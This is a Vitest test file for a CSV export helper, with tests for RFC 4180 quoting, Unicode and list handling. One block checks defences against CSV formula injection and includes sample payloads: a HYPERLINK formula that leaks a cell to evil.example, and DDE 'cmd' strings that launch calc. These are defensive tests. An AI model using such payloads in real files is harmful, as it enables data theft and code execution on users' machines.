import { describe, expect, it } from 'vitest';
import { LIST_SEPARATOR, csvField, csvRow, neutralise, tableToCsv, toCsv } from '../../src/lib/publish/csv.ts';

describe('csvField (RFC 4180)', () => {
  it('leaves plain text alone', () => {
    expect(csvField('Botox')).toBe('Botox');
    expect(csvField('')).toBe('');
  });
  it('quotes a field holding a comma, a quote, CR or LF, and doubles inner quotes', () => {
    expect(csvField('Allergan, AbbVie')).toBe('"Allergan, AbbVie"');
    expect(csvField('"BOTOX" 150 Units')).toBe('"""BOTOX"" 150 Units"');
    expect(csvField('line one\nline two')).toBe('"line one\nline two"');
    expect(csvField('line one\r\nline two')).toBe('"line one\r\nline two"');
    expect(csvField('a\rb')).toBe('"a\rb"');
  });
  it('writes null and undefined as empty fields, numbers and booleans as themselves', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(true)).toBe('true');
  });
  it('joins lists with " | "', () => {
    expect(LIST_SEPARATOR).toBe(' | ');
    expect(csvField(['US', 'MX'])).toBe('US | MX');
    expect(csvField([])).toBe('');
    expect(csvField(['a, b', 'c'])).toBe('"a, b | c"');
  });
  it('keeps Unicode as it is', () => {
    expect(csvField('保妥适')).toBe('保妥适');
    expect(csvField('Falsificación / comercialización irregular')).toBe('Falsificación / comercialización irregular');
    expect(csvField('나보타, 100단위')).toBe('"나보타, 100단위"');
    expect(csvField('Türkiye 🇹🇷')).toBe('Türkiye 🇹🇷');
  });
});

describe('formula neutralisation (OWASP CSV injection)', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('prefixes a cell starting with %j with a single quote', (start) => {
    const cell = `${start}HYPERLINK("http://evil.example/?x="&A1,"click")`;
    const written = csvField(cell);
    const unquoted = written.startsWith('"') ? written.slice(1, -1).replace(/""/g, '"') : written;
    expect(unquoted).toBe(`'${cell}`);
  });
  it('neutralises the classic payloads', () => {
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvField("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
  });
  it('neutralises a list whose first item starts a formula', () => {
    expect(csvField(['=cmd', 'b'])).toBe("'=cmd | b");
  });
  it('leaves cells that merely contain those characters later untouched', () => {
    for (const cell of ['1+1=2', 'user@example.org', 'C37-09C3', 'Lot: C3709C3 = fake?', 'a\tb', 'Type A +', "it's"]) {
      expect(neutralise(cell)).toBe(cell);
      expect(csvField(cell)).toBe(/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
    }
    expect(csvField(['b', '=cmd'])).toBe('b | =cmd');
  });
});

describe('toCsv', () => {
  it('ends every record, the last one included, with CRLF', () => {
    expect(
      toCsv(
        ['id', 'title'],
        [
          ['a', 'One'],
          ['b', 'Two'],
        ],
      ),
    ).toBe('id,title\r\na,One\r\nb,Two\r\n');
  });
  it('keeps embedded newlines inside quoted fields, so records stay whole', () => {
    expect(toCsv(['id', 'note'], [['a', 'first\nsecond']])).toBe('id,note\r\na,"first\nsecond"\r\n');
  });
  it('starts with a byte order mark only when asked', () => {
    expect(toCsv(['id'], [], { bom: true })).toBe('\uFEFFid\r\n');
    expect(toCsv(['id'], []).startsWith('\uFEFF')).toBe(false);
  });
  it('writes a row of fields separated by commas', () => {
    expect(csvRow(['a', null, 'b,c', ['x', 'y']])).toBe('a,,"b,c",x | y');
  });
  it('builds a table from column definitions, header first', () => {
    const columns = [
      ['id', (r: { id: string; lots: string[] }) => r.id],
      ['lots', (r: { id: string; lots: string[] }) => r.lots],
    ] as const;
    expect(tableToCsv(columns, [{ id: 'x', lots: ['C3709C3', 'C3709 C3'] }])).toBe('id,lots\r\nx,C3709C3 | C3709 C3\r\n');
  });
});
